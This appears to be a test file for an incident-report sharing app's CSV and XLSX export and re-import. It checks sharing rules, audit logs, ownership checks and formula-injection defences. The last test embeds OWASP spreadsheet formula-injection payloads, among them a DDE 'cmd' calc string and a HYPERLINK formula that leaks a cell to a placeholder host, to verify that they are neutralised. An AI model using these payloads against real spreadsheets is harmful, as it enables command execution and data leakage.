import ExcelJS from 'exceljs';
import type { InjectOptions } from 'fastify';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makeTestApp, type TestContext, type TestSession } from '../../../../test/support/app.js';
import { sql } from '../../../platform/db/sql.js';
import { parseCsv } from '../../../platform/files/csv.js';
import type { SharingInput } from '../../../platform/sharing/model.js';
import type { ImportResult } from './import/schemas.js';
import { insertReport } from '../records/store.js';
import { multipart } from '../../../../test/support/multipart.js';

let t: TestContext;
let aaa: TestSession;
let bbb: TestSession;
const ids: Record<string, string> = {};

function importBody(options: unknown, file: Buffer, filename: string): Pick<InjectOptions, 'payload' | 'headers'> {
  return multipart([{ name: 'options', value: JSON.stringify(options) }, { name: 'file', value: file, filename }]);
}

async function makeReport(name: string, owner: string, sharing: SharingInput, status: 'draft' | 'shared' | 'submitted' = 'shared'): Promise<void> {
  ids[name] = await t.db.ownerTransaction(async (tx) => {
    const id = await insertReport(tx, owner, null, { where: { country: 'IDN', place: name }, incidentType: 'smuggling-sea', when: { from: '2024-02-01' }, sharing }, { status });
    if (status !== 'draft') await tx.query(sql`UPDATE reports SET submitted_at = now() WHERE id = ${id}`);
    return id;
  });
}

const exported = async (who: TestSession, url: string): Promise<string[]> => {
  const response = await t.as(who, { method: 'GET', url });
  expect(response.statusCode, response.body).toBe(200);
  return response.body.replace('\uFEFF', '').trim().split('\r\n');
};

beforeAll(async () => {
  t = await makeTestApp();
  for (const code of ['AAA', 'BBB', 'CCC']) await t.makeMember(code);
  aaa = await t.sessionFor(await t.makeUser('AAA', ['officer']));
  bbb = await t.sessionFor(await t.makeUser('BBB', ['analyst']));
  await makeReport('green-for-all', 'AAA', { audience: { kind: 'all' }, tlp: 'GREEN' });
  await makeReport('red-for-bbb', 'AAA', { audience: { kind: 'members', members: ['BBB'] }, tlp: 'RED' });
  await makeReport('strict-for-all', 'AAA', { audience: { kind: 'all' }, tlp: 'AMBER+STRICT' });
  await makeReport('h2-for-all', 'AAA', { audience: { kind: 'all' }, tlp: 'AMBER', handling: ['H2'] });
  await makeReport('draft-for-all', 'AAA', { audience: { kind: 'all' }, tlp: 'GREEN' }, 'draft');
  await makeReport('for-ccc', 'AAA', { audience: { kind: 'members', members: ['CCC'] }, tlp: 'GREEN' });
  // BBB contributes (reciprocity: a report approved and shared beyond itself), and may export its own RED report.
  await makeReport('bbb-for-all', 'BBB', { audience: { kind: 'all' }, tlp: 'GREEN' });
  await makeReport('bbb-own-red', 'BBB', { audience: { kind: 'owner' }, tlp: 'RED' }, 'submitted');
});
afterAll(() => t.close());

describe('exports', () => {
  test('hold what the user may see and may pass on: not others\' RED, AMBER+STRICT or H2 reports (rule 5)', async () => {
    const lines = await exported(bbb, '/api/v1/reports/export.csv');
    const places = lines.slice(1).map((line) => line.split(',')[5]).sort();
    expect(places).toEqual(['bbb-for-all', 'bbb-own-red', 'green-for-all']);
    // The RED report is visible to BBB, so rule 5 is what keeps it out.
    const visible = await t.db.transaction({ member: 'BBB' }, (tx) => tx.query<{ id: string }>(sql`SELECT id FROM reports WHERE id = ${ids['red-for-bbb']}`));
    expect(visible).toHaveLength(1);

    const audit = await t.db.ownerTransaction((tx) =>
      tx.one<{ object_owners: string[]; details: { records: Record<string, string[]>; count: number } }>(sql`SELECT object_owners, details FROM audit_log WHERE action = 'reports.export' ORDER BY seq DESC LIMIT 1`));
    expect(audit.object_owners).toEqual(['AAA']);
    expect(audit.details.records).toEqual({ AAA: [ids['green-for-all']] });
    expect(audit.details.count).toBe(3);
  });

  test('take the list filters', async () => {
    expect((await exported(bbb, '/api/v1/reports/export.csv?owner=AAA')).length).toBe(2);
    expect((await exported(bbb, '/api/v1/reports/export.csv?country=THA')).length).toBe(1);
    expect((await exported(aaa, '/api/v1/reports/export.csv?status=draft')).slice(1).map((line) => line.split(',')[5])).toEqual(['draft-for-all']);
  });

  test('re-import unchanged: CSV and XLSX in the template\'s columns', async () => {
    const file = Buffer.from(
      'external_id,incident_type,date_from,country,place,latitude,longitude,route,people,fee_amount,fee_currency,fee_basis,fee_payment_methods,narrative,audience,tlp,handling,evaluation\n' +
      'R-1,smuggling-sea,2024-03-14,IDN,"Rote Island, south",-10.73,123.05,LKA>IDN:boat:fishing-boat:Aceh/Medan|IDN>AUS:boat,"AFG:men=10,women=2,boys=3,girls=1,unaccompanied=2;IRN:men=4",4500.5,USD,per-person,cash;hawala,"Boat ""Harapan"" intercepted",members:BBB;CCC,AMBER,H1,B2\n' +
      'R-2,document-fraud,2024-03-15,THA,Suvarnabhumi airport,,,,,,,,,,all,GREEN,,\n');
    const first = await t.as(aaa, { method: 'POST', url: '/api/v1/reports/import', ...importBody({ format: 'lintas' }, file, 'r.csv') });
    expect(first.json<ImportResult>()).toMatchObject({ imported: 2, rejected: 0 });

    const csv = await t.as(aaa, { method: 'GET', url: '/api/v1/reports/export.csv?country=IDN&mine=true' });
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    const again = await t.as(aaa, { method: 'POST', url: '/api/v1/reports/import', ...importBody({ format: 'lintas' }, csv.rawPayload, 'export.csv') });
    // The reports made without an import are keyed by their id and come back as new template rows;
    // the imported one is the same row, unchanged.
    const result = again.json<ImportResult>();
    expect(result).toMatchObject({ unchanged: 1, updated: 0, rejected: 0 });
    expect(csv.body).toContain('LKA>IDN:boat:fishing-boat:Aceh/Medan|IDN>AUS:boat');

    const xlsx = await t.as(aaa, { method: 'GET', url: '/api/v1/reports/export.xlsx?country=THA' });
    expect(xlsx.statusCode).toBe(200);
    const back = await t.as(aaa, { method: 'POST', url: '/api/v1/reports/import', ...importBody({ format: 'lintas', dryRun: true }, xlsx.rawPayload, 'export.xlsx') });
    expect(back.json<ImportResult>()).toMatchObject({ imported: 0, unchanged: 1, rejected: 0, encoding: 'xlsx' });
  });
  test('a count given as 0 exports as 0 and a blank count stays blank, so an export re-imports them unchanged', async () => {
    const file = Buffer.from('external_id,incident_type,date_from,country,place,intercepted,dead,arrests,audience,tlp\nZ-1,smuggling-sea,2024-05-02,IDN,Zero place,0,,3,owner,AMBER\n');
    expect((await t.as(aaa, { method: 'POST', url: '/api/v1/reports/import', ...importBody({ format: 'lintas' }, file, 'z.csv') })).json<ImportResult>()).toMatchObject({ imported: 1 });
    const csv = await t.as(aaa, { method: 'GET', url: '/api/v1/reports/export.csv?mine=true&country=IDN&from=2024-05-02&to=2024-05-02' });
    const rows = parseCsv(csv.body.replace('\uFEFF', ''), ',');
    const header = rows[0] as string[];
    const row = rows.find((cells) => cells.includes('Zero place')) as string[];
    const cell = (name: string) => row[header.indexOf(name)];
    expect([cell('intercepted'), cell('dead'), cell('arrests')]).toEqual(['0', '', '3']);
    const again = await t.as(aaa, { method: 'POST', url: '/api/v1/reports/import', ...importBody({ format: 'lintas', dryRun: true }, Buffer.from(csv.body.replace('\uFEFF', '')), 'export.csv') });
    expect(again.json<ImportResult>()).toMatchObject({ rows: 1, unchanged: 1, updated: 0, rejected: 0 });
  });

  test('a re-import of an export takes back only the member\'s own reports: another member\'s rows are refused, naming their owner', async () => {
    const csv = await t.as(bbb, { method: 'GET', url: '/api/v1/reports/export.csv' });
    const [header = [], ...rows] = parseCsv(csv.body.replace(/^\uFEFF/, ''), ',').filter((record) => record.length > 1);
    expect(rows.map((cells) => cells[header.indexOf('owner')]).sort()).toEqual(['AAA', 'BBB', 'BBB']);
    const back = await t.as(bbb, { method: 'POST', url: '/api/v1/reports/import', ...importBody({ format: 'lintas', dryRun: true }, csv.rawPayload, 'export.csv') });
    const result = back.json<ImportResult>();
    const aaaRow = rows.findIndex((cells) => cells[header.indexOf('owner')] === 'AAA') + 2;
    expect(result.errors).toEqual([{ row: aaaRow, column: 'owner', value: 'AAA', message: expect.stringMatching(/another member's report, and an import writes only your member's \(BBB\)/) }]);
    expect(result).toMatchObject({ rejected: 1, imported: 2 });
  });

  test('no formula injection: text cells that would run are neutralised in CSV, strings in XLSX, and both re-import as they were', async () => {
    // OWASP's payloads in the free-text fields (trimmed, as an import reads text), and in a route's transit.
    const payloads = [`=cmd|' /C calc'!A0`, '+SUM(1+1)', '-2+3', '@SUM(1+1)', '=HYPERLINK("http://x/?leak="&A2,"x")', '=1+1;=2', '＝1+1', `'=1+1`];
    const made: { id: string; payload: string }[] = [];
    await t.db.ownerTransaction(async (tx) => {
      for (const payload of payloads) {
        const id = await insertReport(tx, 'AAA', null, {
          where: { country: 'PHL', place: payload },
          incidentType: 'smuggling-sea',
          when: { from: '2024-04-01' },
          route: [{ from: 'LKA', to: 'IDN', transit: ['=1+1', '@A1'] }],
          source: payload,
          narrative: payload,
          sharing: { audience: { kind: 'owner' }, tlp: 'AMBER' },
        }, { status: 'draft' });
        made.push({ id, payload });
      }
    });

    const csv = await t.as(aaa, { method: 'GET', url: '/api/v1/reports/export.csv?country=PHL&status=draft' });
    expect(csv.statusCode).toBe(200);
    const [header, ...rows] = parseCsv(csv.body.replace(/^\uFEFF/, ''), ',').filter((record) => record.length > 1);
    const column = (name: string): number => header?.indexOf(name) ?? -1;
    expect(rows).toHaveLength(payloads.length);
    for (const row of rows) {
      // As a spreadsheet gets them: every such cell begins with an apostrophe, none with a formula's start.
      for (const name of ['place', 'source', 'narrative']) expect(row[column(name)], name).toMatch(/^'/);
      for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r\uFF1D\uFF0B\uFF0D\uFF20]|^-(?!\d)/);
    }

    // XLSX: the same texts as string cells, never formulas.
    const xlsx = await t.as(aaa, { method: 'GET', url: '/api/v1/reports/export.xlsx?country=PHL&status=draft' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ExcelJS.Buffer);
    const sheet = workbook.getWorksheet('Reports');
    const places: unknown[] = [];
    sheet?.eachRow((row, number) => {
      if (number === 1) return;
      const cell = row.getCell(column('place') + 1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      places.push(cell.value);
    });
    expect(places.sort()).toEqual([...payloads].sort());
    const dry = await t.as(aaa, { method: 'POST', url: '/api/v1/reports/import', ...importBody({ format: 'lintas', dryRun: true }, xlsx.rawPayload, 'export.xlsx') });
    expect(dry.json<ImportResult>()).toMatchObject({ imported: payloads.length, rejected: 0 });

    // The CSV re-imports: each report comes back (keyed by its id) with its texts as they were.
    const again = await t.as(aaa, { method: 'POST', url: '/api/v1/reports/import', ...importBody({ format: 'lintas' }, csv.rawPayload, 'export.csv') });
    expect(again.json<ImportResult>(), again.body).toMatchObject({ imported: payloads.length, rejected: 0 });
    for (const { id, payload } of made) {
      const back = await t.db.ownerTransaction((tx) =>
        tx.one<{ place: string; source: string; narrative: string; route: { transit?: string[] }[] }>(sql`SELECT place, source, narrative, route FROM reports WHERE import_key = ${id}`));
      expect(back).toMatchObject({ place: payload, source: payload, narrative: payload });
      expect(back.route[0]?.transit).toEqual(['=1+1', '@A1']);
    }
  });
});
